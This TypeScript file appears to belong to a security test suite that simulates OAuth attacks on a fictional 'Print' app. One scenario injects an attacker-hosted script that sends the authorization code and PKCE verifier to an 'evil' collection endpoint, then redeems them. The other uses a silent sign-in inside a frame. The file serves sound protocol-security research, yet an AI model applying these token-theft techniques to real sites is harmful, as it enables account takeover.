import { ALICE } from "../../../src/grants/cast.ts";
import { jsonObject } from "../../../src/oauth/json.ts";
import { withQuery } from "../../../src/oauth/wire.ts";
import { lootIn, spendLoot } from "../attacker.ts";
import { signInToPrint } from "../people.ts";
import type { RealAttack } from "../scene.ts";
import { inline, requestOf } from "./script-in-page.ts";
import { arriveBeforePrintsScript } from "./token-leak.ts";

// What a browser does that no cell of the matrix says: the limits of what the model claims.

/** A third-party script that reads not only the address but also what Print keeps for its sign-in. */
export const verifierToo: RealAttack = {
  print: ({ evil }) => ({ embeds: `<script src="${evil}/read-verifier.js"></script>` }),
  async run(scene) {
    await arriveBeforePrintsScript(scene);
    const reports = await scene.sites.evil.arrivals("/collect", 2);
    const seen = reports.map(({ body }) => jsonObject(body) ?? {});
    const address = seen.map((one) => String(one["address"])).find((one) => one.includes("code="));
    const verifier = seen.map((one) => String(one["verifier"])).find((one) => one !== "") ?? "";
    return spendLoot(scene, lootIn([address ?? ""]), { verifier });
  },
};

/** The silent flow in a frame of Print's page; the address it comes to. */
export const framed: RealAttack = {
  print: async (origins, target) => ({
    embeds: await inline("evil/ask-in-frame", {
      request: withQuery(requestOf(origins, target), { prompt: "none", state: "mallory" }),
    }),
  }),
  async run({ alice, sites }) {
    await signInToPrint(alice, sites, ALICE);
    await alice.locator("main").click();
    const [report] = await sites.evil.arrivals("/collect", 1);
    return report?.body;
  },
};
